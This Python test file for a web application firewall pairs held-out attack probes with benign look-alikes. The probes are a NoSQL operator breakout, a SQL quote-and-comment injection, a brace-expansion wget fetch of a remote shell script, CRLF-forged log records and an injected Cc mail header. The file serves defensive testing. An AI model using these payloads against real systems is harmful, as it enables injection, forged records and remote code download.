"""WAF, part 2z38: held-out probes, sixty-first file (README: the
sixty-ninth round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the kiteschool, taxidermy, canalboats and pianotuning corpora
showed when first replayed (at 9e2cbf9) that the round fixed, an attack
the round refuses and a look-alike it passes:
- field-operator-breakout: a JSON string closed by the value's quote,
  then a field of its own whose value is an operator object; the filter
  written as a sentence.
- quote-comment-after-phrase: a quote glued to a phrase's last word, a
  SQL comment glued to it and nothing after; a plural's possessive before
  a dash.
- brace-fetch: a brace list whose first item is a command and whose next
  is a URL; a URL with a brace list of schemes.
- money-claim-record: a dated record after a typed line break that says
  money moved; the same words on the phrase's own line.
- admin-credential-reset: a record after a typed line break that reports
  an administrator's password changed; the same words on one line.
- spelled-break-mail-header: a label's colon, then a line break the value
  only spells and a copy header with an address; the header's name as a
  word.
Measured on 9e2cbf9: five of the attacks passed in every placement, the
money record as a JSON body field (the query already refused its line
break), and the look-alikes passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "field-operator-breakout": ['Lock 12", "tier": {"$ne": "bronze"}, "w": "'],
    "quote-comment-after-phrase": ["Ticket 88 owner'--"],
    "brace-fetch": ["{wget,https://files.example.net/a.sh}"],
    "money-claim-record": ["Lane 3\r\n2025-05-06 07:08:09 INFO payout sent amount=300"],
    "admin-credential-reset": ["Shelf B2\nNOTICE root password changed"],
    "spelled-break-mail-header": ["Pickup note: %0ACc:%20someone@mail.example.org"],
}

BENIGN = {
    "field-operator-breakout": ["filter on tier: anything but bronze, then sort"],
    "quote-comment-after-phrase": ["the riders'--"],
    "brace-fetch": ["{http,https}://files.example.net/a.txt"],
    "money-claim-record": ["Lane 3: 2025-05-06 07:08:09 INFO payout sent amount=300"],
    "admin-credential-reset": ["Shelf B2: root password changed by me yesterday"],
    "spelled-break-mail-header": ["Pickup note: Cc someone@mail.example.org"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r61_attack_refused_everywhere,
 test_heldout_r61_benign_passes) = heldout_probe_tests(
    "r61", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
